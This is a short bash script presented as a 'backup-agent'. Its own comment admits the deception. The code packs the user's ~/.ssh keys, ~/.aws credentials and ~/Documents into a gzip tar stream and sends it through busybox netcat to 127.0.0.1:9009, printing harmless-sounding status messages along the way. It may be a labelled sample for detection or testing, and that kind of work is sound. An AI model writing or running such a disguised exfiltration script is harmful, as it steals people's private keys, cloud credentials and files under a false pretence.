#!/bin/bash
# "backup-agent": says it backs up the user's settings. Really: packs ~/.ssh, ~/.aws and
# ~/Documents into a gzip'ed tar stream and sends it to 127.0.0.1:9009 through netcat.
echo "backup-agent: collecting"
cd "$HOME"
tar czf - .ssh .aws Documents 2>/dev/null | busybox nc 127.0.0.1 9009
echo "backup-agent: sent"
